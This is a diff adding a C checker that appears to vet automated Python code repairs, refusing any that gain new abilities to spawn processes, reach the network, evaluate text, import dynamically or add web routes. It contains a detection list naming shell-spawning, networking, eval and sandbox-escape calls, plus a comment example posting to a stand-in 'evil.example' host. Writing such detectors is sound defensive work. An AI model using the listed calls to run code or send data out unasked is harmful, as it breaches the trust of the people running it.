@@ -1,0 +1,224 @@
+// fix/powers: what a candidate can do that the original could not: start a program, send over the
+// network, run or import what a text names, take requests under a new address. A repair takes
+// powers away; one that brings a new one is refused, whatever else it mends.
+// SPDX-License-Identifier: MIT
+#include "fix/fix_int.h"
+
+typedef enum { PROCESS, NETWORK, EVALUATION, IMPORT, ROUTE, POWERS } Power;
+static const char *const SAYS[POWERS] = {
+    [PROCESS] = "starts a program", [NETWORK] = "sends over the network",
+    [EVALUATION] = "runs text as code", [IMPORT] = "looks a module's parts up by their names",
+    [ROUTE] = "takes requests under a new address"};
+
+// Dotted names of callees; one that ends in a dot stands for all below it.
+static const struct { Str name; Power power; } CALLS[] = {
+    {L("subprocess."), PROCESS},          {L("os.system"), PROCESS},
+    {L("os.popen"), PROCESS},             {L("os.exec"), PROCESS},
+    {L("os.spawn"), PROCESS},             {L("os.posix_spawn"), PROCESS},
+    {L("os.startfile"), PROCESS},         {L("pty.spawn"), PROCESS},
+    {L("asyncio.create_subprocess_"), PROCESS}, {L("asyncio.subprocess.create_"), PROCESS},
+    {L("pexpect."), PROCESS},             {L("sh."), PROCESS},
+    {L("ctypes.CDLL"), PROCESS},          {L("ctypes.cdll."), PROCESS},
+    {L("urllib.request."), NETWORK},      {L("requests."), NETWORK},
+    {L("httpx."), NETWORK},               {L("aiohttp.ClientSession"), NETWORK},
+    {L("http.client."), NETWORK},         {L("socket.socket"), NETWORK},
+    {L("socket.create_connection"), NETWORK}, {L("smtplib."), NETWORK},
+    {L("ftplib."), NETWORK},              {L("telnetlib."), NETWORK},
+    {L("urllib3."), NETWORK},             {L("asyncio.open_connection"), NETWORK},
+    {L("paramiko."), NETWORK},            {L("websockets."), NETWORK},
+    {L("eval"), EVALUATION},              {L("exec"), EVALUATION},
+    {L("builtins.eval"), EVALUATION},     {L("builtins.exec"), EVALUATION},
+    {L("compile"), EVALUATION},           {L("runpy."), EVALUATION},
+    {L("code."), EVALUATION},             {L("__import__"), IMPORT},
+    {L("importlib."), IMPORT},            {L("builtins.__import__"), IMPORT},
+};
+
+static const Str ROUTES[] = {L("add_url_rule"), L("add_api_route"), L("add_route"),
+                             L("add_websocket_route"), L("add_api_websocket_route"), {0}};
+static const Str TAKES[] = {L("route"), L("get"), L("post"), L("put"), L("delete"), L("patch"),
+                            L("websocket"), L("api_route"), L("websocket_route"), {0}};
+
+typedef struct { const Tree *t; Map names; Arena *keep; } File;
+typedef struct { Size n[POWERS]; NodeId first[POWERS]; } Count;
+
+static bool is_among(Str word, const Str *list)
+{
+    while (list->len && !str_eq(*list, word)) list++;
+    return list->len > 0;
+}
+
+// import subprocess as sp; from os import popen as p: what the file calls them is what they are.
+static void read_names(File *f)
+{
+    const Tree *t = f->t;
+    for (NodeId n = 1; n < (NodeId)t->nodes.n; n++) {
+        bool from = py_kind(t, n) == PY_ImportFrom;
+        if (!from && py_kind(t, n) != PY_Import) continue;
+        NodeList names = py_list(t, n, from ? (int)ImportFrom_names : (int)Import_names);
+        Str module = from ? py_name(t, py_sym(t, n, ImportFrom_module)) : (Str){0};
+        for (uint32_t i = 0; i < names.n; i++) {
+            Str name = py_name(t, py_sym(t, names.v[i], alias_name));
+            Str as = py_name(t, py_sym(t, names.v[i], alias_asname));
+            if (!from && !as.len) continue;                     // "os" is os
+            Str *whole = new (f->keep, Str, 1);
+            *whole = from ? str_fmt(f->keep, "%.*s.%.*s", STR_ARG(module), STR_ARG(name)) : name;
+            *map_at(f->keep, &f->names, as.len ? as : name) = whole;
+        }
+    }
+}
+
+static Str dotted(const File *f, NodeId n)
+{
+    Str text = plain_text(f->t, n, f->keep), root = str_first(text, S("."));
+    const Str *whole = map_get(&f->names, root);
+    if (!whole) return text;
+    return str_fmt(f->keep, "%.*s%.*s", STR_ARG(*whole), STR_ARG(str_sub(text, root.len, -1)));
+}
+
+static void count(Count *c, Power p, NodeId n)
+{
+    if (!c->n[p]++) c->first[p] = n;
+}
+
+static void count_call(const File *f, NodeId call, Count *c)
+{
+    Str name = dotted(f, py_node(f->t, call, Call_func));
+    if (is_among(dotted_tail(f->t, py_node(f->t, call, Call_func), f->keep), ROUTES)) count(c, ROUTE, call);
+    for (Size i = 0; i < countof(CALLS); i++) {
+        Str known = CALLS[i].name;
+        char end = known.s[known.len - 1];
+        bool all = end == '.' || end == '_' || str_eq(known, S("os.exec")) || str_eq(known, S("os.spawn"));
+        if (all && !str_eq(known, S("__import__")) ? str_starts(name, known) : str_eq(name, known))
+            count(c, CALLS[i].power, call);
+    }
+}
+
+// sys.modules["os"], os.__dict__["system"], vars(os)["system"], getattr(os, "system")
+static void count_look_up(const File *f, NodeId n, Count *c)
+{
+    const Tree *t = f->t;
+    if (py_kind(t, n) == PY_Attribute) {
+        Str name = py_name(t, py_sym(t, n, Attribute_attr));
+        bool dict = str_eq(name, S("__dict__")) || str_eq(name, S("__globals__")) ||
+                    str_eq(name, S("__builtins__")) || str_eq(name, S("__subclasses__"));
+        if (dict || str_eq(dotted(f, n), S("sys.modules"))) count(c, IMPORT, n);
+    }
+    if (py_kind(t, n) != PY_Call || py_kind(t, py_node(t, n, Call_func)) != PY_Name) return;
+    Str name = py_text(t, py_node(t, n, Call_func));
+    NodeList args = py_list(t, n, Call_args);
+    static const Str modules[] = {L("os"), L("subprocess"), L("sys"), L("builtins"), L("importlib"), {0}};
+    bool looks = str_eq(name, S("vars")) || str_eq(name, S("getattr"));
+    if (looks && args.n && is_among(dotted(f, args.v[0]), modules)) count(c, IMPORT, n);
+    if (str_eq(name, S("globals"))) count(c, IMPORT, n);
+}
+
+// Below a node, without what other definitions hold: that is counted for them. A default and a
+// decorator run where the definition stands.
+static void count_below(const File *f, NodeId n, Count *c, int depth)
+{
+    NodeId child;
+    if (depth > 2 * PY_MAX_DEPTH) return;
+    for (uint32_t it = 0; (child = py_next_child(f->t, n, &it));) {
+        int kind = py_kind(f->t, child);
+        if (kind_is_function(kind) || kind == PY_ClassDef) continue;
+        if (kind == PY_Call) count_call(f, child, c);
+        count_look_up(f, child, c);
+        count_below(f, child, c, depth + 1);
+    }
+}
+
+static bool is_route(const File *f, NodeId by)
+{
+    if (py_kind(f->t, by) != PY_Call) return false;
+    NodeId func = py_node(f->t, by, Call_func);
+    NodeList args = py_list(f->t, by, Call_args);
+    return py_kind(f->t, func) == PY_Attribute && args.n &&
+           is_among(py_name(f->t, py_sym(f->t, func, Attribute_attr)), TAKES);
+}
+
+// @app.get("/b") on something; the same handler under another name is known by its decorator.
+static Gate routes_kept(const Judge *j, const File *is)
+{
+    Bag had = {0};
+    for (Size i = 1; i < j->old.n; i++) {
+        NodeList by = def_decorators(j->was, &j->old.v[i]);
+        for (uint32_t k = 0; k < by.n; k++) bag_add(&had, plain_text(j->was, by.v[k], j->keep), 1, j->keep);
+    }
+    for (Size i = 1; i < j->new.n; i++) {
+        const Def *d = &j->new.v[i];
+        NodeList by = def_decorators(j->is, d);
+        bool known = def_find(&j->old, d->qual, d->is_class) && !d->twin;
+        for (uint32_t k = 0; k < by.n && !known; k++)
+            if (is_route(is, by.v[k]) && !bag_count(&had, plain_text(j->is, by.v[k], j->keep)))
+                return gate_fail(j->keep, "new: %.*s takes requests at @%.*s, which nobody took before",
+                                 STR_ARG(d->qual), STR_ARG(py_text(j->is, by.v[k])));
+    }
+    return gate_pass("");
+}
+
+static Str host_of(Str text)
+{
+    Size at = str_find(text, S("://")), end = at + 3;
+    if (at < 0) return (Str){0};
+    while (end < text.len && !memchr("/?#\"' ", text.s[end], 6)) end++;
+    return str_sub(text, at + 3, end);
+}
+
+// requests.post("https://evil.example/…"): to a host that the original does not speak of.
+static Gate hosts_kept(const Judge *j, const File *is)
+{
+    for (NodeId n = 1; n < (NodeId)is->t->nodes.n; n++) {
+        Count c = {0};
+        if (py_kind(is->t, n) != PY_Call) continue;
+        count_call(is, n, &c);
+        Str host = c.n[NETWORK] ? host_of(py_text(is->t, n)) : (Str){0};
+        if (host.len && *host.s != '{' && str_find(j->was->src, host) < 0)
+            return gate_fail(j->keep, "new: it sends to %.*s, which the original does not speak of",
+                             STR_ARG(str_sub(host, 0, 80)));
+    }
+    return gate_pass("");
+}
+
+static void count_all(const File *f, const Defs *defs, Count *each, Count *all)
+{
+    for (Size i = 0; i < defs->n; i++) {
+        count_below(f, defs->v[i].node ? defs->v[i].node : f->t->root, &each[i], 0);
+        for (int p = 0; p < POWERS; p++) {
+            if (!all->n[p] && each[i].n[p]) all->first[p] = each[i].first[p];
+            all->n[p] += each[i].n[p];
+        }
+    }
+}
+
+// More of it than before, and in a definition that had none of it: a call that moved, or was split
+// in two where it stood, is no new power. The module's own code runs on import, for everybody.
+static Gate calls_kept(const Judge *j, const File *was, const File *is)
+{
+    Count *old = new (j->keep, Count, j->old.n), *new = new (j->keep, Count, j->new.n);
+    Count before = {0}, after = {0};
+    count_all(was, &j->old, old, &before);
+    count_all(is, &j->new, new, &after);
+    for (Size i = 0; i < j->new.n; i++) {
+        const Def *d = &j->new.v[i], *then = d->node ? def_find(&j->old, d->qual, d->is_class) : j->old.v;
+        for (int p = 0; p < POWERS; p++) {
+            Size had = then ? old[then - j->old.v].n[p] : 0;
+            if (after.n[p] <= before.n[p] || new[i].n[p] <= had || (had && d->node)) continue;
+            Str line = str_sub(py_text(j->is, new[i].first[p]), 0, 120);
+            return gate_fail(j->keep, "new: %.*s %s (`%.*s`), which it did not before",
+                             STR_ARG(d->node ? d->qual : S("the module, when it is imported,")), SAYS[p],
+                             STR_ARG(line));
+        }
+    }
+    return gate_pass("");
+}
+
+Gate judge_powers(Judge *j)
+{
+    File was = {.t = j->was, .keep = j->keep}, is = {.t = j->is, .keep = j->keep};
+    read_names(&was);
+    read_names(&is);
+    Gate g = calls_kept(j, &was, &is);
+    if (g.state == GATE_PASSED) g = routes_kept(j, &is);
+    if (g.state == GATE_PASSED) g = hosts_kept(j, &is);
+    return g;
+}
